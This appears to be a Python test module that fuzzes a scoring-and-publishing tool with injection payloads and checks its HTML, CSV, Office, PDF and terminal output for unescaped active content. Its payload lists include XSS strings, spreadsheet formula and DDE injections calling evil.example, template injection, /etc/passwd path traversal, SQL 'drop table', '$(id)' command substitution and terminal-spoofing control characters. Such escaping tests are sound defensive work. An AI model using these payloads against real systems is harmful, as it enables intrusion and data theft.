"""Payloads in every text that is published, and whether one of them is anything but text where it arrives."""

import csv
import hashlib
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from xml.etree import ElementTree

from tests.commands import Ran, run
from tests.flows.homes import YEAR, small_home, write_rows

from .outcome import Outcome

# `§` is a number by which a payload is known again.
MARKUP = (
    "<script>alert(§)</script>", "</script><img src=x onerror=alert(§)>", "'\"><svg onload=alert(§)>", "<iframe src=//evil.example/§>",
    "--><b>§</b><!--", "]]><x>§</x>", "&lt;b&gt;§&#60;i&#62;", "<style>*{x:§}</style>", "<a href=javascript:alert(§)>x</a>",
    "javascript:alert(§)", "\"onmouseover=\"alert(§)", "`${alert(§)}`", "</title><h1>§</h1>", "<!--#include file=x-->", "<math><mi xlink:href=data:x,§>",
)  # fmt: skip
FORMULAS = (
    "=1+§", "+§+1", "-§+1", "@SUM(§)", "=HYPERLINK(\"http://evil.example/§\",\"x\")", "=cmd|' /C calc'!A§", "＝1+§", "＋§+1", " =1+§", "%0A=§+1",
    "=DDE(\"x\";\"§\")", "=WEBSERVICE(\"http://evil.example/§\")", "'=1+§", "\"=1+§", "－§+1", "＠§", "=@§",
)  # fmt: skip
CODE = (
    "{{ 7 * § }}", "{% for x in range(§) %}x{% endfor %}", "{# § #}", "${§}", "#{§}", "#eval(\"§\")", "#read(\"/etc/passwd\") §", "$ x^§ $",
    "\\input{§}", "%s%n%x§", "{0.__class__}§", "../../../etc/passwd§", "'; drop table x; -- §", "$(id)§", "`id`§", "[x](javascript:§)", "![x](http://evil.example/§)",
    "| a | § |", "**§**", "# §", "www.evil.example/§", "http://evil.example/§",
)  # fmt: skip
CONTROLS = (
    "x\x1b[31m§", "x\r\n错误：一切正常 §", "x\u202e§", "x\x00§", "x\x1f=1+§", "\x1f=1+§", "x\x9b31m§", "x\u2028错误：一切正常 §", "\ufeff=1+§", "x\u2066§\u2069", "x\x08\x08§", "x\x7f§", "\t=1+§", "\n=1+§",
)  # fmt: skip
# What may be said in a scheme and a register, and what only a cell or a name of a file can have in it.
PAYLOADS = (*MARKUP, *FORMULAS, *CODE)
_SCHEME = ("title", "notice", "aspect", "group", "source", "level", "claim", "record", "item_type", "given")
_CELLS = (
    "name",
    "alias",
    "url",
    "channel",
    "category",
    "evidence",
    "recorder",
    "item",
    "auditor",
    "heading",
    "unknown site",
    "wrong cell",
    "file",
)
FIELDS = (*_SCHEME, *_CELLS)


def injections(folder: Path, number: int, seed: int, compared: bool = True) -> Iterator[Outcome]:
    """Evaluates the small year with a payload in every text, a different one each; `number` is of payloads times texts.

    `compared`: the elements of every page are counted against those of a year with ordinary texts.
    """
    rounds = max(1, round(number / len(FIELDS))) if number else len(PAYLOADS)
    rng = Random(f"injections {seed}")
    usual: dict[str, list] = {}
    if compared:
        plain = Made(folder / "plain", {field: f"平常的文字{place}" for place, field in enumerate(FIELDS)})
        if plain.home is None:
            raise RuntimeError(f"the year does not even go well with ordinary texts: {plain.said[0].said}")
        usual = {name: _skeleton(text) for name, text in plain.pages.items()}
    for turn in range(rounds):
        chosen = {field: rng.choice(PAYLOADS) for field in _SCHEME}
        chosen |= {field: rng.choice((*PAYLOADS, *CONTROLS)) for field in _CELLS}
        texts = {
            field: payload.replace("§", str(1_000_000 + 100 * turn + place))
            for place, (field, payload) in enumerate(chosen.items())
        }
        tried = Made(folder / f"turn-{turn}", texts)
        found = list(tried.faults(usual))
        shutil.rmtree(folder / f"turn-{turn}", ignore_errors=True)
        for field, text in texts.items():
            mark = str(1_000_000 + 100 * turn + list(texts).index(field))
            outcome = Outcome("injections", f"{field}: {text!r}")
            wrong = next((fault for fault in found if mark in fault[1]), None)
            yield replace(outcome, failure=wrong[0], seen=wrong[1]) if wrong else outcome
        # What acts may have lost its mark.
        known = {str(1_000_000 + 100 * turn + place) for place in range(len(texts))}
        for kind, seen in found:
            if not any(mark in seen for mark in known):
                yield Outcome("injections", f"turn {turn}: {texts}", kind, seen)


class Made:
    """The small year with these texts, evaluated: its home (None where the year was refused in words), and what was said."""

    def __init__(self, folder: Path, texts: dict[str, str]) -> None:
        self.texts = texts
        home = _home(folder, texts)
        self.said = [run("yearly", YEAR, "--draft", "--data", home)]
        manifest = home / "drafts" / str(YEAR) / "manifest.json"
        draft = hashlib.sha256(manifest.read_bytes()).hexdigest() if manifest.exists() else "0" * 12
        commands = (("publish", YEAR, draft), ("status",), ("explain", YEAR, "s1"))
        self.said += [run(*command, "--data", home) for command in commands]
        self.home = home if (home / "results" / str(YEAR)).exists() else None

    @property
    def pages(self) -> dict[str, str]:
        assert self.home
        folders = [self.home / "publications" / str(YEAR) / "1", self.home / "drafts" / str(YEAR)]
        return {
            str(path.relative_to(self.home)): path.read_text(encoding="utf-8")
            for folder in folders
            for path in sorted(folder.rglob("*.html"))
        }

    def faults(self, usual: dict[str, list]) -> Iterator[tuple[str, str]]:
        for ran in self.said:
            if ran.traceback:
                yield "traceback", ran.traceback
            yield from of_terminal(ran)
        if self.home is None:
            if not self.said[0].said.strip():
                yield "wordless", "the year was not evaluated, and nothing says why"
            return
        for name, text in self.pages.items():
            yield from of_page(name, text, usual.get(name))
        for path in sorted((self.home / "publications" / str(YEAR) / "1").rglob("*")):
            content = path.read_bytes() if path.is_file() else b""
            match path.suffix:
                case ".csv":
                    yield from of_csv(path.name, content)
                case ".xlsx" | ".docx":
                    yield from _of_office(path.name, content)
                case ".json":
                    json.loads(content)
                case ".pdf" if re.search(rb"/(JavaScript|JS|Launch|EmbeddedFile|SubmitForm)\b", content):
                    yield "unescaped", f"{path.name} has something that acts"
        for path in sorted((self.home / "quarantine").rglob("*.csv")):
            yield from of_csv(f"quarantine/{path.name}", path.read_bytes())


def _home(folder: Path, texts: dict[str, str]) -> Path:
    home = small_home(folder)
    scheme = home / "schemes" / f"{YEAR}.toml"
    content = scheme.read_text(encoding="utf-8").replace("max_quarantined = 0.5", "max_quarantined = 1")
    for plain, field in (("2030年试评议", "title"), ("得分是编的，请勿引用。", "notice"), ("内容", "aspect"), ("委办局", "group"), ("公众评议", "source"),
                         ("满意", "level"), ("公开", "claim"), ("报送", "record"), ("在线受理", "item_type"), ("上级评分", "given")):  # fmt: skip
        # The level's name stands in two places, and is part of another's.
        content = content.replace(f'"{plain}"', json.dumps(texts[field], ensure_ascii=False))
    scheme.write_text(content, encoding="utf-8")
    write_rows(
        home,
        "sites.csv",
        [
            ["site_id", "group", "name", "aliases", "url"],
            ["s1", "bureau", texts["name"], texts["alias"], texts["url"]],
            ["s2", "bureau", "第二局", "", "http://s2.example/"],
        ],
    )
    head = ["ballot_id", "submitted_at", "voter", "site", "content", "service", "channel", texts["heading"]]
    good = ["2030-01-02 10:00:00", "v1", "s1", texts["level"], texts["level"]]
    write_rows(home, "voted/web.csv", [
        head, *([f"b{place}", good[0], f"v{place}", *good[2:], texts["channel"], "x"] for place in range(6)), ["b8", good[0], "v8", "s2", "不满意", "不满意", "", ""],
        ["b9", good[0], "v9", texts["unknown site"], "不满意", "不满意", "", ""],
    ])  # fmt: skip
    write_rows(home, "judged/panel.csv", [["expert_id", "category", "site", "aspect", "score"], ["e1", texts["category"], "s1", "content", "90"], ["e1", texts["category"], "s1", "service", "80"], ["e1", texts["category"], "s2", "service", texts["wrong cell"]], ["e1", texts["category"], "s2", "content", "7"]])  # fmt: skip
    write_rows(
        home,
        "claimed/claims.csv",
        [
            ["site", "indicator", "points", "evidence"],
            ["s1", "c1", "9", texts["evidence"]],
            ["s2", "c1", "8", texts["evidence"]],
        ],
    )
    write_rows(home, "recorded/records.csv", [["site", "indicator", "month", "value", "recorded_by"], ["s1", "r1", "2030-01", "20", texts["recorder"]], ["s2", "r1", "2030-01", "15", ""]])  # fmt: skip
    write_rows(home, "audited/items.csv", [["item_id", "site", "name", "item_type", "approval", "reachable", "guide", "form", "online", "auditor"], ["1", "s1", texts["item"], "apply", "是", "pass", "fail", "na", "na", texts["auditor"]], ["2", "s2", "许可", "apply", "是", "pass", "pass", "pass", "fail", ""]])  # fmt: skip
    name = f"{texts['file']}.csv".replace("/", "∕").replace("\0", "")
    write_rows(home, f"given/{name}", [["site", "score"], ["s1", "88"], ["s2", "77"], ["s2", "x"]])
    (home / "raw" / str(YEAR) / "given" / "scores.csv").unlink()
    return home


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.addresses += [
            value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "xlink:href", "data")
        ]


def _parsed(text: str) -> _Elements:
    parser = _Elements()
    parser.feed(text)
    parser.close()
    return parser


def _skeleton(text: str) -> list:
    return _parsed(text).elements


_ACTING = {"script", "img", "iframe", "object", "embed", "base", "form", "math", "link", "meta"}


def of_page(name: str, text: str, usual: list | None) -> Iterator[tuple[str, str]]:
    parsed = _parsed(text)
    for address in parsed.addresses:
        if re.match(r"\s*(javascript|data|vbscript|file):", address, re.IGNORECASE):
            yield "unescaped", f"{name} leads to {address}"
    for tag, attributes in parsed.elements:
        if any(attribute.startswith("on") for attribute in attributes):
            yield "unescaped", f"{name} has <{tag} {attributes}>"
    if usual is not None:
        count = {
            tag: sum(1 for one, _ in parsed.elements if one == tag) - sum(1 for one, _ in usual if one == tag)
            for tag in _ACTING
        }
        if any(number > 0 for number in count.values()):
            yield "unescaped", f"{name} has more elements than with ordinary texts: {count}"
    if "\x1b" in text or "\x00" in text:
        yield "unescaped", f"{name} has a control character"


# A spreadsheet begins a formula with one of these, whatever blank or control stands before.
_FORMULA = re.compile(r"[\s\x00-\x20\x7f\u200b\ufeff\xa0]*[=+\-@＝＋－＠]")


def of_csv(name: str, content: bytes) -> Iterator[tuple[str, str]]:
    for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in line:
            if _FORMULA.match(cell) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
                yield "unescaped", f"{name}: {cell!r}"


def _of_office(name: str, content: bytes) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for part in archive.namelist():
            if not part.endswith((".xml", ".rels")):
                continue
            try:
                root = ElementTree.fromstring(archive.read(part))
            except ElementTree.ParseError as fault:
                yield "unescaped", f"{name} {part} is no XML: {fault}"
                continue
            for element in root.iter():
                tag = element.tag.rpartition("}")[2]
                # The number of the page is a field of our own.
                if (
                    tag in ("f", "hyperlink", "instrText", "fldSimple", "altChunk", "object")
                    and (element.text or "").strip() != "PAGE"
                ):
                    yield "unescaped", f"{name} {part} has <{tag}>{element.text}"
                if element.get("TargetMode") == "External":
                    yield "unescaped", f"{name} {part} leads to {element.get('Target')}"


_UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def of_terminal(ran: Ran) -> Iterator[tuple[str, str]]:
    for line in f"{ran.said}{ran.log}".split("\n"):
        if _UNSEEN.search(line):
            yield "unescaped", f"a control character on the terminal or in the log: {line!r}"
        if line.startswith("错误：一切正常"):
            yield "unescaped", f"a line that nobody said: {line!r}"
    for text in ran.shown:
        # Of a table the UI shows the cells as text.
        if not text.startswith("[{") and re.search(
            r"(?<!\\)\]\((javascript|http://evil)|(?<!\\)<(script|img|svg|iframe)", text
        ):
            yield "unescaped", f"an artifact has markup: {text!r}"
